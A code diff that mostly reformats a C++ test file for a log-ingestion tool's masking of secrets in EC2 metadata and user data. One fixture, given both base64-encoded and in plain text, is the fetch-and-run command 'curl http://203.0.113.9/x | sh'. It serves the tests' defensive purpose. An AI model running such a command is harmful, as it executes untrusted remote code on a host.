@@ -4,20 +4,22 @@
 #include "ingest/kinds/ec2_metadata/user_data.h"
 #include "ingest/mask.h"
 
-using trawl::ingest::mask_members;
 using trawl::ingest::kinds::ec2_metadata::mask_secrets;
+using trawl::ingest::mask_members;
 using trawl::ingest::test::decode;
 
 TEST_CASE("secret members are masked at any depth and nothing else changes")
 {
-    CHECK(mask_members(R"({"a": "Token", "Token" : "se\"cret", "b":[{"Token":"x"},{"Token":""},{"Token":5}]})", {"Token"})
+    CHECK(
+        mask_members(R"({"a": "Token", "Token" : "se\"cret", "b":[{"Token":"x"},{"Token":""},{"Token":5}]})", {"Token"})
         == R"({"a": "Token", "Token" : "****", "b":[{"Token":"****"},{"Token":""},{"Token":5}]})");
 }
 
 TEST_CASE("role credentials never show their secrets")
 {
-    const auto found = decode(R"({"Code":"Success","LastUpdated":"2024-04-26T16:39:16Z","Type":"AWS-HMAC","AccessKeyId":"ASIAIOSFODNN7EXAMPLE",)"
-                              R"("SecretAccessKey":"wJalrXUtnFEMI","Token":"tok","Expiration":"2024-05-17T15:09:54Z"})");
+    const auto found = decode(
+        R"({"Code":"Success","LastUpdated":"2024-04-26T16:39:16Z","Type":"AWS-HMAC","AccessKeyId":"ASIAIOSFODNN7EXAMPLE",)"
+        R"("SecretAccessKey":"wJalrXUtnFEMI","Token":"tok","Expiration":"2024-05-17T15:09:54Z"})");
     REQUIRE(found.events.size() == 1);
     CHECK(found.has(0, R"("@kind":"ec2_metadata")"));
     CHECK(found.has(0, "ASIAIOSFODNN7EXAMPLE"));
@@ -33,7 +35,9 @@ TEST_CASE("user data is decoded and its secrets masked")
     CHECK(script.has(0, "echo hi"));
     CHECK_FALSE(script.has(0, "hunter2222"));
     // "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n" in base64, as describe-instance-attribute gives it.
-    const auto attribute = decode(R"({"InstanceId":"i-0abc1234","UserData":{"Value":"IyEvYmluL3NoCmN1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaAo="}})");
+    const auto attribute = decode(
+        R"({"InstanceId":"i-0abc1234","UserData":{"Value":"IyEvYmluL3NoCmN1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaAo="}})");
     CHECK(attribute.has(0, "curl http://203.0.113.9/x | sh"));
-    CHECK(mask_secrets("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----") == "-----BEGIN RSA PRIVATE KEY-----****-----END RSA PRIVATE KEY-----");
+    CHECK(mask_secrets("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----")
+        == "-----BEGIN RSA PRIVATE KEY-----****-----END RSA PRIVATE KEY-----");
 }
